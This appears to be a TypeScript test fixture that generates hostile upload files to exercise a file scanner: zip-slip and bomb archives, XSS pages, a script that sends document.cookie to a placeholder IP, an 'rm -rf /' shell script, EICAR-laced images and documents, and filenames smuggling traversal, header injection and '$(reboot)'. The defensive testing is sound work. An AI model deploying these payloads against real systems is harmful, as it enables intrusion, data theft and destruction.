import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { projectRoot } from '#app/platform/project-root.server.ts';
import { messageScreenshot, operatorEmail, phonePhoto, recordedCall } from '../sample-files.ts';
import { EICAR } from '../scanner.ts';
import { file, type HostileFile, SCRIPT } from './hostile-file.ts';

/** A stored ZIP entry with a name of the sender's choice. */
function zip(name: string, content: Buffer): Buffer {
  const local = Buffer.alloc(30);
  local.write('PK\x03\x04', 'latin1');
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, Buffer.from(name), content, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]);
}

function archives(): HostileFile[] {
  const inner = gzipSync(Buffer.alloc(10_000_000));
  return [
    file(
      'archive that unpacks elsewhere',
      'docs.zip',
      zip('../../../etc/cron.d/x', Buffer.from('* * * * * root x')),
    ),
    file('archive that unpacks elsewhere', 'photo.jpg', zip('C:\\Windows\\x.exe', Buffer.from('MZ'))),
    file('archive of archives', 'nested.zip', zip('a.zip', zip('b.zip', zip('c.zip', inner)))),
    file('archive of a thousand times its size', 'bomb.gz', inner),
    file('archive of a thousand times its size', 'photo.png', gzipSync(gzipSync(Buffer.alloc(5_000_000)))),
    file('office document', 'letter.docx', zip('word/document.xml', Buffer.from('<x/>'))),
    file(
      'page in an archive of pages',
      'page.mhtml',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n${SCRIPT}`,
    ),
  ];
}

function programs(): HostileFile[] {
  return [
    file('page', 'index.html', `<!doctype html>${SCRIPT}`),
    file('page', 'photo.jpg', `<html><body onload=alert(1)>`),
    file('page', 'photo.jpg\0.html', `\ufeff<html>${SCRIPT}`),
    file(
      'XML with a stylesheet',
      'data.xml',
      '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><x/>',
    ),
    file('script', 'run.js', 'fetch("//192.0.2.1/"+document.cookie)'),
    file('program', 'setup.exe', 'MZ\x90\0\x03', Buffer.alloc(200)),
    file('program', 'facture.pdf', '\x7fELF\x02\x01\x01', Buffer.alloc(200)),
    file('shell script', 'photo.png', '#!/bin/sh\nrm -rf /\n'),
    file('Flash', 'film.swf', 'FWS\x0a\x08\0\0\0', Buffer.alloc(100)),
    file(
      'shortcut',
      'photo.lnk',
      Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
      Buffer.alloc(100),
    ),
    file('nothing', 'empty.jpg', ''),
    file('noughts', 'zero.jpg', Buffer.alloc(100_000)),
    file('plain text', 'readme.pdf', 'just text\n'),
  ];
}

async function infected(): Promise<HostileFile[]> {
  const [jpeg, png] = await Promise.all([phonePhoto(), messageScreenshot()]);
  const attached = operatorEmail().toString().replace('JVBERi0xLjQK', Buffer.from(EICAR).toString('base64'));
  return [
    file('virus alone', 'eicar.com', EICAR),
    file('virus alone', 'photo.jpg', EICAR),
    file('virus behind a picture', 'photo.jpg', jpeg, EICAR),
    file('virus behind a picture', 'shot.png', png, EICAR),
    file(
      'virus in a document',
      'bill.pdf',
      `%PDF-1.7\n1 0 obj\n<< /Length 68 >>\nstream\n${EICAR}\nendstream\nendobj\n%%EOF`,
    ),
    file('virus in a mail', 'mail.eml', attached),
    file('virus in a recording', 'call.wav', recordedCall(), EICAR),
    file('virus in an archive', 'docs.zip', zip('eicar.com', Buffer.from(EICAR))),
  ];
}

const NAMES = [
  '../../../../etc/passwd.jpg',
  '..\\..\\windows\\system32\\photo.jpg',
  'photo\u202egpj.exe',
  '\u2066photo\u2069.jpg',
  'a\0.html',
  'CON.jpg',
  'nul',
  '.',
  '..',
  '.htaccess',
  '-rf.jpg',
  'photo.jpg\r\nContent-Type: text/html\r\n\r\n<script>.jpg',
  'photo".jpg; filename=x.html',
  'x'.repeat(5000),
  '%2e%2e%2fphoto.jpg',
  '$(reboot).jpg',
  '<img src=x onerror=alert(1)>.jpg',
  '\ud800.jpg',
  'شكوى\u200f\u202e.jpg',
  'photo.jpg::$DATA',
] as const;

async function names(): Promise<HostileFile[]> {
  const jpeg = await phonePhoto();
  return NAMES.map((name, index) => file('name that lies', name, jpeg, `${index}`));
}

/** Files of packages that tests anywhere use: what people really have on their disks and might send. */
const OF_PACKAGES = [
  'retry/equation.gif',
  'playwright-core/lib/server/chromium/appIcon.png',
  'playwright-core/lib/vite/traceViewer/playwright-logo.svg',
  'playwright-core/lib/vite/htmlReport/index.html',
  'playwright-core/lib/vite/dashboard/assets/firefox-beta-k3eOH_eK.svg',
  'thread-stream/test/ts-commonjs-default-export.zip',
  'thread-stream/test/dir with spaces/test-package.zip',
  'tsconfig-paths-webpack-plugin/coverage/lcov-report/sort-arrow-sprite.png',
  'tsconfig-paths-webpack-plugin/coverage/lcov-report/index.html',
  'tslib/tslib.html',
  'pino/index.html',
  'lz-string/tests/SpecRunner.html',
  '@expo-google-fonts/noto-sans/font-family.png',
  '@expo-google-fonts/noto-sans/400Regular/NotoSans_400Regular.ttf',
  '@hyzyla/pdfium/dist/pdfium.wasm',
  'lighthouse/report/assets/standalone-template.html',
] as const;

function ofPackages(): HostileFile[] {
  return OF_PACKAGES.map(path => join(projectRoot(), 'node_modules', path))
    .filter(existsSync)
    .map(path => file('file of a package', path, readFileSync(path)));
}

/** Archives, programs, viruses, lying names, and files of packages. */
export async function hostileOthers(): Promise<HostileFile[]> {
  return [...archives(), ...programs(), ...(await infected()), ...(await names()), ...ofPackages()];
}
